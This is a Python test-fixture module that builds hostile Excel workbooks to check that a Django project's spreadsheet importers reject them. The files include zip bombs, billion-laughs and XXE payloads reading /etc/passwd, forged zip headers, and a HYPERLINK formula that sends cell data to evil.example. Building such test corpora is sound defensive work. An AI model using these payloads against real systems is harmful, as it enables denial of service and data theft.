"""A corpus of hostile workbooks, built by code (issue 10): zip bombs, far cells, entity expansion, external links,
rows past the limits, over-long fields, formulas, a chart sheet, other files renamed .xlsx, encrypted files …

Files are written part by part as raw XML (the way an attacker would, and fast), each as small as its attack
allows. Sheet-level attacks are in all three sheets the importers read ("Kế hoạch", "Chỉ tiêu", "Số liệu"), so
every import path meets the attack itself rather than a missing sheet. The big ones are built once per session
(tests/indicators/test_hostile_workbooks.py).
"""

import io
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from xml.sax.saxutils import escape, quoteattr

from django.conf import settings

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEETS = ("Kế hoạch", "Chỉ tiêu", "Số liệu", "Địa bàn")
PLAN_CODE, INDICATOR, PERIOD = "BACYEN-2021-2025", "1.1a", "2025"  # a figure the values paths can reach

PLAN_ROWS = [
    ["Trường thông tin", "Giá trị"],
    ["Mã kế hoạch", "THU-2026-2030"],
    ["Tên kế hoạch", "Kế hoạch thử"],
    ["Cơ quan ban hành", "Ủy ban nhân dân xã Thử Nghiệm"],
    ["Địa bàn", "Thử Nghiệm"],
    ["Cấp địa bàn", "xã"],
    ["Năm bắt đầu", 2026],
    ["Năm kết thúc", 2030],
]
INDICATOR_HEADER = [
    "Mục tiêu",
    "Tên mục tiêu",
    "Mã chỉ tiêu",
    "Tên chỉ tiêu",
    "Đơn vị tính",
    "Loại",
    "Hướng",
    "Giá trị cơ sở",
    "Năm cơ sở",
    "Chỉ tiêu kế hoạch",
    "Năm đạt",
    "Cơ quan chủ trì",
]
INDICATOR_ROW = [1, "Chính trị", "1.1", "Tỷ lệ nữ", "%", "tỷ lệ", "tăng", 15, 2025, 35, 2030, "Văn phòng UBND xã"]
VALUES_HEADER = ["Mã kế hoạch", "Mã chỉ tiêu", "Kỳ báo cáo", "Địa bàn", "Giá trị", "Tử số", "Mẫu số", "Ghi chú"]
VALUES_ROW = [PLAN_CODE, INDICATOR, PERIOD, None, 30, None, None, None]
UNITS_HEADER = ["Mã", "Tên", "Cấp", "Mã cấp trên"]
UNITS_ROW = ["99001", "Thử Nghiệm", "xã", None]


def column_letter(index: int) -> str:
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if isinstance(value, Formula):
        return f'<c r="{ref}"><f>{escape(value.text)}</f><v>0</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'


@dataclass(frozen=True)
class Formula:
    text: str


def rows_xml(rows: list[list], first: int = 1) -> str:
    return "".join(
        f'<row r="{number}">'
        + "".join(cell(f"{column_letter(column)}{number}", value) for column, value in enumerate(row, 1))
        + "</row>"
        for number, row in enumerate(rows, first)
    )


def sheet_xml(rows: list[list] | str, *, before: str = "", after: str = "", prolog: str = "") -> str:
    data = rows if isinstance(rows, str) else rows_xml(rows)
    return f'{prolog}<worksheet xmlns="{MAIN}">{before}<sheetData>{data}</sheetData>{after}</worksheet>'


def tables(plan=None, indicators=None, values=None, units=None) -> dict[str, str]:
    """The four sheets with valid content unless given."""
    return {
        "Kế hoạch": sheet_xml(PLAN_ROWS if plan is None else plan),
        "Chỉ tiêu": sheet_xml([INDICATOR_HEADER, INDICATOR_ROW] if indicators is None else indicators),
        "Số liệu": sheet_xml([VALUES_HEADER, VALUES_ROW] if values is None else values),
        "Địa bàn": sheet_xml([UNITS_HEADER, UNITS_ROW] if units is None else units),
    }


def same_sheet(xml: str) -> dict[str, str]:
    return dict.fromkeys(SHEETS, xml)


def package(
    sheets: dict[str, str | bytes],
    *,
    kinds: dict[str, str] | None = None,
    parts: dict[str, bytes | str] | None = None,
    workbook_extra: str = "",
    rels_extra: str = "",
    types_extra: str = "",
    replace: dict[str, bytes | str] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
    level: int = 6,
) -> bytes:
    """A minimal .xlsx: content types, relationships, a workbook and one part per sheet (`kinds` may make a sheet a
    chartsheet or a macro sheet). `parts` adds members; `replace` swaps a standard member's content."""
    kinds = kinds or {}
    entries, relations, overrides = [], [], []
    members: dict[str, bytes | str] = {}
    for index, (title, xml) in enumerate(sheets.items(), 1):
        kind = kinds.get(title, "worksheet")
        folder = {"worksheet": "worksheets", "chartsheet": "chartsheets"}.get(kind, "macrosheets")
        rel_type = (
            f"{RELS}/{kind}"
            if kind != "xlMacrosheet"
            else f"http://schemas.microsoft.com/office/2006/relationships/{kind}"
        )
        target = f"{folder}/sheet{index}.xml"
        if isinstance(xml, SharedPart):
            target = xml.target
        else:
            members[f"xl/{target}"] = xml
        entries.append(f'<sheet name={quoteattr(title)} sheetId="{index}" r:id="rId{index}"/>')
        relations.append(f'<Relationship Id="rId{index}" Type="{rel_type}" Target="{target}"/>')
        content = {"worksheet": "worksheet", "chartsheet": "chartsheet"}.get(kind, "worksheet")
        overrides.append(
            f'<Override PartName="/xl/{target}" '
            f'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.{content}+xml"/>'
        )
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            + "".join(dict.fromkeys(overrides))
            + types_extra
            + "</Types>"
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" '
            f'Type="{RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{RELS}"><sheets>'
            + "".join(entries)
            + f"</sheets>{workbook_extra}</workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_RELS}">'
            + "".join(relations)
            + rels_extra
            + "</Relationships>"
        ),
    }
    files.update(members)
    files.update(parts or {})
    files.update(replace or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(
        buffer, "w", compression, compresslevel=level if compression == zipfile.ZIP_DEFLATED else None
    ) as archive:
        for name, content in files.items():
            archive.writestr(name, content.encode() if isinstance(content, str) else content)
    return buffer.getvalue()


@dataclass(frozen=True)
class SharedPart:
    """Several sheets pointing at one part (a big attack written once)."""

    target: str


def big_rows_package(rows: int) -> bytes:
    """`rows` rows of one number each, below a values header, in all three sheets (one part shared by the three)."""
    body = [rows_xml([VALUES_HEADER])]
    body += [f'<row r="{n}"><c r="E{n}"><v>{n}</v></c></row>' for n in range(2, rows + 2)]
    xml = sheet_xml("".join(body))
    shared = SharedPart("worksheets/sheet1.xml")
    return package(dict.fromkeys(SHEETS, shared), parts={"xl/worksheets/sheet1.xml": xml}, level=1)


def huge_string_package(megabytes: int) -> bytes:
    """One shared string of `megabytes` MB in a file of a few hundred KB (the 413 KB file with a 400 MB string).

    The deflate stream is one compressed megabyte repeated (each copy after a full flush stands alone), so the file
    is built in a moment; the zip is written by hand around it, as an attacker's tool would."""
    block = b"a" * (1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>'.encode()
    tail = b"</t></si></sst>"
    body = compressor.compress(tail) + compressor.flush(zlib.Z_FINISH)
    start = zlib.compressobj(9, zlib.DEFLATED, -15)
    opening = start.compress(head) + start.flush(zlib.Z_FULL_FLUSH)
    stream = opening + chunk * megabytes + body
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + megabytes * len(block) + len(tail)
    sheets = same_sheet(sheet_xml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'))
    with zipfile.ZipFile(io.BytesIO(with_shared_strings(sheets, ["a"]))) as source:
        members = [(name, source.read(name)) for name in source.namelist() if name != "xl/sharedStrings.xml"]
    raw = [(name.encode(), zlib.compress(data, 9)[2:-4], zlib.crc32(data), len(data)) for name, data in members]
    raw.append((b"xl/sharedStrings.xml", stream, crc, size))
    return _zip_by_hand(raw)


def _zip_by_hand(members: list[tuple[bytes, bytes, int, int]]) -> bytes:
    """A zip of already deflated members: (name, deflated bytes, CRC-32, uncompressed size)."""
    out, directory = bytearray(), bytearray()
    for name, data, crc, size in members:
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0) + name
        out += data
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(data), size, len(name), 0, 0, 0, 0, 0, offset
        )
        directory += name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(out), 0)
    return bytes(out + directory + end)


def with_shared_strings(sheets: dict[str, str], strings: list[str]) -> bytes:
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}" count="{len(strings)}" uniqueCount="{len(strings)}">'
        + "".join(f"<si><t>{escape(text)}</t></si>" for text in strings)
        + "</sst>"
    )
    return package(
        sheets,
        parts={"xl/sharedStrings.xml": xml},
        types_extra='<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sharedStrings+xml"/>',
    )


def patched(data: bytes, name: str, *, flag_bits: int | None = None, file_size: int | None = None) -> bytes:
    """Rewrite a member's local and central headers (encryption flag, declared size) as an attacker would."""
    data = bytearray(data)
    encoded = name.encode()
    at = 0
    while (at := data.find(b"PK\x03\x04", at)) >= 0:
        if data[at + 30 : at + 30 + len(encoded)] == encoded:
            if flag_bits is not None:
                struct.pack_into("<H", data, at + 6, flag_bits)
            if file_size is not None:
                struct.pack_into("<I", data, at + 22, file_size)
        at += 4
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        if data[at + 46 : at + 46 + len(encoded)] == encoded:
            if flag_bits is not None:
                struct.pack_into("<H", data, at + 8, flag_bits)
            if file_size is not None:
                struct.pack_into("<I", data, at + 24, file_size)
        at += 4
    return bytes(data)


def ole(*streams: str) -> bytes:
    """The head of an OLE compound file (Office 97–2003, or an encrypted workbook) naming its streams."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return header + b"".join(stream.encode("utf-16-le") + b"\x00" * 16 for stream in streams) + b"\x00" * 1024


def plain_zip(members: dict[str, bytes | str], compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;'
    '&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 '
    '"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>'
)
EXTERNAL_ENTITY = '<?xml version="1.0"?><!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@dataclass
class Hostile:
    """One hostile file: how to build it, what a user is told on every path (or per path: plan, values), and the
    settings it needs (a limit lowered so the attack stays small)."""

    name: str
    build: object  # () -> bytes
    message: str = ""
    plan_message: str = ""
    values_message: str = ""
    units_message: str = ""
    settings: dict = field(default_factory=dict)
    big: bool = False
    kinds: tuple = ("plan", "values", "units")  # the workbooks the attack is written into

    def expected(self, kind: str) -> str:
        return {"plan": self.plan_message, "values": self.values_message, "units": self.units_message}[
            kind
        ] or self.message


def _far_cell() -> bytes:
    xml = sheet_xml(rows_xml([VALUES_HEADER]) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    return package(same_sheet(xml))


def _chart_sheets() -> bytes:
    chart = f'<chartsheet xmlns="{MAIN}"><sheetViews><sheetView workbookViewId="0"/></sheetViews></chartsheet>'
    return package(same_sheet(chart), kinds=dict.fromkeys(SHEETS, "chartsheet"))


def _macro_sheets() -> bytes:
    return package(same_sheet(sheet_xml([VALUES_HEADER])), kinds=dict.fromkeys(SHEETS, "xlMacrosheet"))


def _external_link() -> bytes:
    link = (
        f'<externalLink xmlns="{MAIN}"><externalBook xmlns:r="{RELS}" r:id="rId1"><sheetNames>'
        '<sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    return package(
        tables(values=[VALUES_HEADER, [PLAN_CODE, INDICATOR, PERIOD, None, Formula("[1]Sheet1!A1")]]),
        parts={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": (
                f'<Relationships xmlns="{PACKAGE_RELS}"><Relationship Id="rId1" Type="{RELS}/externalLinkPath" '
                'Target="file:///C:/khac.xlsx" TargetMode="External"/></Relationships>'
            ),
        },
        workbook_extra='<externalReferences><externalReference r:id="rId9"/></externalReferences>',
        rels_extra=f'<Relationship Id="rId9" Type="{RELS}/externalLink" Target="externalLinks/externalLink1.xml"/>',
    )


def _zip_bomb() -> bytes:
    xml = sheet_xml(rows_xml([VALUES_HEADER]) + "<row r='2'>" + " " * (4 * 1024 * 1024) + "</row>")
    return package(same_sheet(xml), level=9)


def _declared_huge() -> bytes:
    noise = os.urandom(800 * 1024)
    data = package(tables(), parts={"xl/media/a.bin": noise, "xl/media/b.bin": noise})
    for name in ("xl/media/a.bin", "xl/media/b.bin"):
        data = patched(data, name, file_size=150 * 1024 * 1024)
    return data


def _truncated() -> bytes:
    data = package(tables())
    return data[: len(data) // 2]


def _duplicate_members() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package(tables()))) as source, zipfile.ZipFile(buffer, "w") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for name in source.namelist():
                archive.writestr(name, source.read(name))
            archive.writestr("xl/worksheets/sheet3.xml", sheet_xml([["khác"]]))
    return buffer.getvalue()


def _bzip2_member() -> bytes:
    return package(tables(), compression=zipfile.ZIP_BZIP2)


def _utf16_dtd() -> bytes:
    xml = ('<?xml version="1.0" encoding="UTF-16"?>' + EXTERNAL_ENTITY[21:] + sheet_xml([["&xxe;"]])).encode("utf-16")
    return package(same_sheet(xml))


def _strict() -> bytes:
    data = package(tables())
    with zipfile.ZipFile(io.BytesIO(data)) as source:
        members = {name: source.read(name) for name in source.namelist()}
    strict = "http://purl.oclc.org/ooxml/spreadsheetml/main"
    members["xl/workbook.xml"] = members["xl/workbook.xml"].replace(MAIN.encode(), strict.encode())
    return plain_zip(members)


def _two_same_titles() -> bytes:
    sheets = tables()
    sheets |= {
        "SO LIEU": sheets["Số liệu"],
        "chi tieu": sheets["Chỉ tiêu"],
        "KE HOACH": sheets["Kế hoạch"],
        "dia ban": sheets["Địa bàn"],
    }
    return package(sheets)


def _merged() -> bytes:
    merge = '<mergeCells count="1"><mergeCell ref="A2:B3"/></mergeCells>'
    rows = [
        PLAN_ROWS,
        [INDICATOR_HEADER, INDICATOR_ROW, INDICATOR_ROW[:1] + [None] + ["1.2"] + INDICATOR_ROW[3:]],
        [VALUES_HEADER, VALUES_ROW, VALUES_ROW],
        [UNITS_HEADER, UNITS_ROW, UNITS_ROW],
    ]
    return package({title: sheet_xml(table, after=merge) for title, table in zip(SHEETS, rows, strict=True)})


def _formulas() -> bytes:
    evil = Formula('HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")')
    return package(
        tables(
            plan=[*PLAN_ROWS[:2], ["Tên kế hoạch", evil], *PLAN_ROWS[3:]],
            indicators=[INDICATOR_HEADER, INDICATOR_ROW[:3] + [evil] + INDICATOR_ROW[4:]],
            values=[VALUES_HEADER, VALUES_ROW[:4] + [evil] + VALUES_ROW[5:]],
            units=[UNITS_HEADER, UNITS_ROW[:1] + [evil] + UNITS_ROW[2:]],
        )
    )


def _duplicate_headers() -> bytes:
    return package(
        tables(
            indicators=[INDICATOR_HEADER + ["Mã chỉ tiêu"], INDICATOR_ROW + ["1.9"]],
            values=[VALUES_HEADER + ["Mã chỉ tiêu"], VALUES_ROW + ["1.9"]],
            units=[UNITS_HEADER + ["Tên"], UNITS_ROW + ["Khác"]],
        )
    )


def _long_fields() -> bytes:
    long = "Rất dài " * 80  # 640 characters: past every name, title and code the database holds
    return package(
        tables(
            plan=[*PLAN_ROWS[:2], ["Tên kế hoạch", long], *PLAN_ROWS[3:]],
            indicators=[INDICATOR_HEADER, INDICATOR_ROW[:-1] + [long]],
            values=[VALUES_HEADER, [PLAN_CODE, INDICATOR, PERIOD, long, 30]],
            units=[UNITS_HEADER, ["99001", long, "xã"]],
        )
    )


def _long_text() -> bytes:
    text = "x" * 40_000
    return package(
        tables(
            plan=[*PLAN_ROWS, ["Số hiệu", text]],
            indicators=[INDICATOR_HEADER, INDICATOR_ROW[:3] + [text] + INDICATOR_ROW[4:]],
            values=[VALUES_HEADER, VALUES_ROW[:7] + [text]],
            units=[UNITS_HEADER, ["99001", text, "xã"]],
        )
    )


def _long_shared_string() -> bytes:
    xml = sheet_xml(rows_xml([VALUES_HEADER]) + '<row r="2"><c r="H2" t="s"><v>0</v></c></row>')
    return with_shared_strings(same_sheet(xml), ["y" * 40_000])


def _huge_numbers() -> bytes:
    return package(
        tables(
            indicators=[
                INDICATOR_HEADER,
                INDICATOR_ROW[:4] + ["người", "số lượng", "tăng", 15, 2025, 1e15, 2030, "Văn phòng"],
            ],
            values=[VALUES_HEADER, VALUES_ROW[:4] + ["1000000000000000"] + VALUES_ROW[5:]],
        )
    )


def _not_a_number() -> bytes:
    xml = (
        rows_xml([VALUES_HEADER])
        + f'<row r="2"><c r="A2" t="inlineStr"><is><t>{PLAN_CODE}</t></is></c><c r="B2" t="inlineStr"><is><t>'
        f'{INDICATOR}</t></is></c><c r="C2" t="inlineStr"><is><t>{PERIOD}</t></is></c><c r="E2"><v>1e999</v></c></row>'
    )
    indicators = rows_xml([INDICATOR_HEADER, INDICATOR_ROW]).replace(
        '<c r="J2"><v>35</v></c>', '<c r="J2"><v>-1e999</v></c>'
    )
    return package({"Kế hoạch": sheet_xml(PLAN_ROWS), "Chỉ tiêu": sheet_xml(indicators), "Số liệu": sheet_xml(xml)})


def _years() -> bytes:
    return package(
        tables(
            plan=[*PLAN_ROWS[:6], ["Năm bắt đầu", 99999], *PLAN_ROWS[7:]],
            indicators=[INDICATOR_HEADER, INDICATOR_ROW[:8] + [32768] + INDICATOR_ROW[9:]],
            values=[VALUES_HEADER, VALUES_ROW[:2] + ["99999"] + VALUES_ROW[3:]],
        )
    )


def _row_past_excel() -> bytes:
    return package(
        same_sheet(sheet_xml(rows_xml([VALUES_HEADER]) + '<row r="2000000"><c r="A2000000"><v>1</v></c></row>'))
    )


def _column_past_excel() -> bytes:
    return package(same_sheet(sheet_xml('<row r="1"><c r="XFE1"><v>1</v></c></row>')))


def _rows_out_of_order() -> bytes:
    return package(
        same_sheet(sheet_xml('<row r="5"><c r="A5"><v>1</v></c></row><row r="3"><c r="A3"><v>1</v></c></row>'))
    )


def _bad_style() -> bytes:
    xml = sheet_xml(rows_xml([VALUES_HEADER]) + '<row r="2"><c r="E2" s="999"><v>1</v></c></row>')
    return package(same_sheet(xml))


def _bad_shared_index() -> bytes:
    xml = sheet_xml(rows_xml([VALUES_HEADER]) + '<row r="2"><c r="B2" t="s"><v>99999</v></c></row>')
    return with_shared_strings(same_sheet(xml), ["một"])


def _too_many_cells() -> bytes:
    rows = [VALUES_HEADER] + [[PLAN_CODE, INDICATOR, PERIOD, None, 1, 2, 3, "ghi chú"]] * 200
    return package(same_sheet(sheet_xml(rows)))


def _too_many_strings() -> bytes:
    xml = sheet_xml(rows_xml([VALUES_HEADER]))
    return with_shared_strings(same_sheet(xml), [f"chuỗi {n}" for n in range(300)])


def _external_entity_strings() -> bytes:
    return package(
        tables(),
        parts={"xl/sharedStrings.xml": EXTERNAL_ENTITY + f'<sst xmlns="{MAIN}"><si><t>&xxe;</t></si></sst>'},
        types_extra='<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sharedStrings+xml"/>',
    )


def styled_far_cell(rows: list[list]) -> bytes:
    """A valid table, plus a formatted but empty cell at XFD1048576 and a dimension claiming the whole grid: what a
    careless user saves after formatting a whole sheet. It must cost nothing."""
    xml = sheet_xml(
        rows_xml(rows) + '<row r="1048576"><c r="XFD1048576" s="0"/></row>',
        before='<dimension ref="A1:XFD1048576"/>',
    )
    return xml


CORPUS = [
    Hostile("empty-file", lambda: b"", "Tệp trống"),
    Hostile("csv-renamed", lambda: "Mã kế hoạch;Mã chỉ tiêu\nBACYEN;1.1a\n".encode(), "văn bản (CSV hoặc TXT)"),
    Hostile(
        "html-renamed", lambda: b"<html><body><table><tr><td>1</td></tr></table></body></html>", "trang web (HTML)"
    ),
    Hostile("xls-renamed", lambda: ole("Workbook", "SummaryInformation"), "Excel 97–2003 (.xls)"),
    Hostile("encrypted", lambda: ole("EncryptionInfo", "EncryptedPackage"), "đặt mật khẩu"),
    Hostile("pdf-renamed", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "tài liệu PDF"),
    Hostile("png-renamed", lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "là ảnh"),
    Hostile("binary-junk", lambda: bytes(range(256)) * 4, "không nhận ra định dạng"),
    Hostile(
        "xml-2003",
        lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "XML 2003",
    ),
    Hostile(
        "docx-renamed",
        lambda: plain_zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"}),
        "văn bản Word",
    ),
    Hostile(
        "ods-renamed",
        lambda: plain_zip({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
        "OpenDocument (.ods)",
    ),
    Hostile(
        "xlsb-renamed", lambda: plain_zip({"[Content_Types].xml": "<Types/>", "xl/workbook.bin": b"\x00"}), ".xlsb"
    ),
    Hostile("zip-not-a-workbook", lambda: plain_zip({"readme.txt": "xin chào"}), "không phải là sổ Excel"),
    Hostile("truncated", _truncated, "bị hỏng"),
    Hostile("zip-bomb", _zip_bomb, "bom nén"),
    Hostile("declared-huge", _declared_huge, "khi giải nén nặng"),
    Hostile("too-many-members", lambda: plain_zip({f"x/{n}.xml": "" for n in range(1001)}), "1.001 phần"),
    Hostile(
        "zip-encrypted-member", lambda: patched(package(tables()), "xl/workbook.xml", flag_bits=1), "nén kèm mật khẩu"
    ),
    Hostile("bzip2-member", _bzip2_member, "cách Excel không dùng"),
    Hostile("duplicate-members", _duplicate_members, "trùng tên"),
    Hostile(
        "file-too-large",
        lambda: package(tables(), parts={"xl/media/x.bin": os.urandom(96 * 1024)}),
        "quá giới hạn",
        settings={"WORKBOOK_MAX_FILE_BYTES": 64 * 1024, "IMPORT_MAX_UPLOAD_BYTES": 64 * 1024},
    ),
    Hostile("billion-laughs-sheet", lambda: package(same_sheet(sheet_xml([["&lol4;"]], prolog=LAUGHS))), "DTD"),
    Hostile("entity-workbook", lambda: package(tables(), replace={"xl/workbook.xml": LAUGHS + "<workbook/>"}), "DTD"),
    Hostile("external-entity-strings", lambda: _external_entity_strings(), "DTD"),
    Hostile(
        "entity-content-types", lambda: package(tables(), replace={"[Content_Types].xml": LAUGHS + "<Types/>"}), "DTD"
    ),
    Hostile("entity-styles", lambda: package(tables(), parts={"xl/styles.xml": LAUGHS + "<styleSheet/>"}), "DTD"),
    Hostile("utf16-entity", _utf16_dtd, "DTD"),
    Hostile("malformed-sheet", lambda: package(same_sheet(sheet_xml([VALUES_HEADER])[:-30])), "XML bị hỏng"),
    Hostile(
        "malformed-workbook",
        lambda: package(tables(), replace={"xl/workbook.xml": "<workbook><sheets>"}),
        "XML bị hỏng",
    ),
    Hostile("external-links", _external_link, "liên kết tới sổ Excel khác"),
    Hostile("strict-open-xml", _strict, "Strict Open XML"),
    Hostile("chart-sheet", _chart_sheets, "là biểu đồ (chart sheet)"),
    Hostile("macro-sheet", _macro_sheets, "không phải là một trang tính thông thường"),
    Hostile("missing-sheets", lambda: package({"Sheet1": sheet_xml([["a"]])}), "Thiếu sheet"),
    Hostile("same-titles", _two_same_titles, "không rõ sheet nào được nhập"),
    Hostile("far-cell", _far_cell, "ngoài vùng được đọc"),
    Hostile("row-past-excel", _row_past_excel, "vượt quá 1.048.576 dòng"),
    Hostile("column-past-excel", _column_past_excel, "không hợp lệ"),
    Hostile("rows-out-of-order", _rows_out_of_order, "không hợp lệ"),
    Hostile("long-inline-text", _long_text, "dài hơn 32.767 ký tự"),
    Hostile("long-shared-string", _long_shared_string, "ô H2 chứa đoạn chữ dài hơn 32.767 ký tự"),
    Hostile("too-many-cells", _too_many_cells, "ô có dữ liệu", settings={"WORKBOOK_MAX_CELLS": 1000}),
    Hostile(
        "too-many-strings", _too_many_strings, "chuỗi chữ khác nhau", settings={"WORKBOOK_MAX_SHARED_STRINGS": 100}
    ),
    Hostile(
        "strings-part-too-large",
        lambda: with_shared_strings(same_sheet(sheet_xml([VALUES_HEADER])), ["z" * 5000]),
        "Phần chữ dùng chung",
        settings={"WORKBOOK_MAX_SHARED_STRINGS_BYTES": 4096},
    ),
    Hostile("bad-style-index", _bad_style, "không đọc được"),
    Hostile("bad-shared-index", _bad_shared_index, "không đọc được"),
    Hostile(
        "duplicate-headers",
        _duplicate_headers,
        "cột “Mã chỉ tiêu” xuất hiện hai lần",
        units_message="cột “Tên” xuất hiện hai lần",
    ),
    Hostile("formula-text", _formulas, "chứa công thức"),
    Hostile("merged-cells", _merged, "có ô gộp"),
    Hostile("over-long-fields", _long_fields, "ký tự cho phép"),
    Hostile("huge-numbers", _huge_numbers, "quá lớn", kinds=("plan", "values")),
    Hostile("not-a-number", _not_a_number, "không phải là số", kinds=("plan", "values")),
    Hostile(
        "years-out-of-range",
        _years,
        plan_message="không hợp lý",
        values_message="“99999” không hợp lệ",
        kinds=("plan", "values"),
    ),
    Hostile("huge-string", lambda: huge_string_package(400), "bom nén", big=True),
    Hostile(
        "rows-past-limit",
        lambda: big_rows_package(settings.VALUES_WORKBOOK_MAX_ROWS + 20),  # the largest limit of any sheet
        "ngoài vùng được đọc",
        big=True,
    ),
]
